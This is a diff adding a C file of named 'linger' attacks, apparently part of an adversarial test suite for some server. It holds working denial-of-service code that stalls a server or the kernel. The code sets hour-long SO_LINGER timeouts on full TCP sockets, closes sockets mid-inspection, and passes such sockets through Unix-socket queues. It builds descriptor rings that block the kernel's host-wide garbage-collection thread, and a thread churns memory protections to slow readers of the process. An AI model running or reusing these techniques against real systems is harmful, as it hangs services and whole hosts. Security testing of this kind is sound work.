@@ -1,0 +1,196 @@
+/* Sockets that wait for a long time when the last descriptor of them is closed, which is to be the server's or the kernel's. */
+#include "attack.h"
+
+#include <netinet/in.h>
+#include <netinet/tcp.h>
+#include <sys/mman.h>
+
+static long seconds = 3600;
+
+/* Not one byte more fits, and nobody reads; a close waits. */
+static void fill_and_linger(int one)
+{
+    static char text[65536];
+    static int is_told;
+    struct linger linger = {1, seconds};
+    long lingers = setsockopt(one, SOL_SOCKET, SO_LINGER, &linger, sizeof linger);
+    if (!is_told++)
+        must_fail(lingers, "a linger of %ld seconds", seconds);
+    while (send(one, text, sizeof text, MSG_DONTWAIT | MSG_NOSIGNAL) > 0)
+        ;
+}
+
+static void interrupted(int signal)
+{
+    (void)signal;
+}
+
+/* Whoever else closes it last waits itself, until a signal comes. */
+static volatile int to_close = -1;
+static volatile long delay;
+
+static void *close_when_told(void *nothing)
+{
+    (void)nothing;
+    for (;;) {
+        int one = to_close;
+        if (one < 0)
+            continue;
+        for (volatile long i = delay; i > 0; i--)
+            ;
+        close(one);
+        __atomic_store_n(&to_close, -1, __ATOMIC_SEQ_CST);
+    }
+    return NULL;
+}
+
+/* Whoever reads this process's memory, as the server does to see an address, waits for this. */
+static void *hold_memory(void *nothing)
+{
+    (void)nothing;
+    long bytes = 48 << 20;
+    char *all = mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
+    for (;;) {
+        mprotect(all, bytes, PROT_READ);
+        mprotect(all, bytes, PROT_READ | PROT_WRITE);
+        for (long i = 0; i < bytes; i += 4096)
+            all[i] = 1;
+    }
+    return NULL;
+}
+
+/* Asks for a connection of a socket, and closes it while the server looks at it. */
+static void close_while_asking(int one, const void *address, socklen_t length, long round)
+{
+    static pthread_t closer;
+    if (!closer) {
+        struct sigaction action = {.sa_handler = interrupted};
+        sigaction(SIGUSR1, &action, NULL);
+        closer = thread(close_when_told, NULL);
+        thread(hold_memory, NULL);
+    }
+    delay = round * 7 % 200 * 8000;
+    __atomic_store_n(&to_close, one, __ATOMIC_SEQ_CST);
+    connect(one, address, length);
+    for (int i = 0; to_close >= 0; i++) {
+        pause_ms(1);
+        pthread_kill(closer, SIGUSR1);
+    }
+}
+
+static const struct sockaddr_in nobody = {.sin_family = AF_INET, .sin_port = 0x900, .sin_addr.s_addr = 0x100007f};
+static const struct sockaddr_un nowhere = {.sun_family = AF_UNIX, .sun_path = "/tmp/nobody"};
+
+/* A socket is closed while the server looks at it. */
+static void close_asked(char **arguments)
+{
+    seconds = number(arguments, 0, 3600);
+    for (long round = 0; round < 600; round++) {
+        int pair[2];
+        tcp_pair(pair);
+        fill_and_linger(pair[0]);
+        close_while_asking(pair[0], &nobody, sizeof nobody, round);
+        if (round == 100)
+            ready();
+    }
+    hold();
+}
+
+/* The socket that the server looks at has messages with such sockets in its queue, which go when it goes. */
+static void close_nested(char **arguments)
+{
+    seconds = number(arguments, 0, 3600);
+    for (long round = 0; round < 600; round++) {
+        int pair[2], queue[2];
+        tcp_pair(pair);
+        fill_and_linger(pair[0]);
+        if (socketpair(AF_UNIX, SOCK_DGRAM, 0, queue))
+            break;
+        send_descriptors(queue[0], &pair[0], 1);
+        close(pair[0]);
+        close(queue[0]);
+        close_while_asking(queue[1], &nowhere, sizeof nowhere, round);
+        if (round == 100)
+            ready();
+    }
+    hold();
+}
+
+static struct sockaddr_in full;
+
+static void *connect_it(void *number)
+{
+    connect((int)(long)number, (struct sockaddr *)&full, sizeof full);
+    return NULL;
+}
+
+static int is_established(int one)
+{
+    struct tcp_info info = {0};
+    socklen_t length = sizeof info;
+    return !getsockopt(one, IPPROTO_TCP, TCP_INFO, &info, &length) && info.tcpi_state == TCP_ESTABLISHED;
+}
+
+/* A connection waits at the server until its peer has room; then it is filled and closed at once. */
+static void close_connecting(char **arguments)
+{
+    seconds = number(arguments, 0, 3600);
+    int listener = tcp_listener(0, &full), small = 1, all[8], filler[3];
+    setsockopt(listener, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
+    for (int i = 0; i < 3; i++) {
+        filler[i] = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
+        connect(filler[i], (struct sockaddr *)&full, sizeof full);
+    }
+    for (int i = 0; i < 8; i++) {
+        all[i] = socket(AF_INET, SOCK_STREAM, 0);
+        thread(connect_it, (void *)(long)all[i]);
+    }
+    pause_ms(200);
+    listen(listener, 64);
+    for (int i = 0, left = 8; left; i = (i + 1) % 8)
+        if (all[i] >= 0 && is_established(all[i])) {
+            /* More than the other one takes, and less than fits: the server sees one that can be written to. */
+            static char text[4096];
+            setsockopt(all[i], SOL_SOCKET, SO_LINGER, &(struct linger){1, seconds}, sizeof(struct linger));
+            send(all[i], text, sizeof text, MSG_DONTWAIT | MSG_NOSIGNAL);
+            close(all[i]);
+            all[i] = -1;
+            if (--left == 4)
+                ready();
+        }
+    hold();
+}
+
+/* Sockets that keep each other in flight are closed by a thread of the kernel, for all of the host; both ends go, and the first one
+ * waits for the second one, which is closed after it. */
+static void cycle(char **arguments)
+{
+    seconds = number(arguments, 0, 2);
+    for (int i = 0; i < 8; i++) {
+        int pair[2], ring[2];
+        tcp_pair(pair);
+        fill_and_linger(pair[0]);
+        if (socketpair(AF_UNIX, SOCK_STREAM, 0, ring))
+            break;
+        int all[] = {ring[0], ring[1], pair[0], pair[1], 1, 2};
+        must_fail(send_descriptors(ring[0], all, 6), "a ring with outputs in it");
+        for (int k = 0; k < 4; k++)
+            close(all[k]);
+    }
+    /* The kernel looks for rings when another local socket goes. */
+    int last[2];
+    if (!socketpair(AF_UNIX, SOCK_STREAM, 0, last)) {
+        close(last[0]);
+        close(last[1]);
+    }
+    ready();
+    hold();
+}
+
+const struct named linger_attacks[] = {
+    {"linger-asked", close_asked},
+    {"linger-connecting", close_connecting},
+    {"linger-nested", close_nested},
+    {"linger-cycle", cycle},
+    {NULL, NULL},
+};
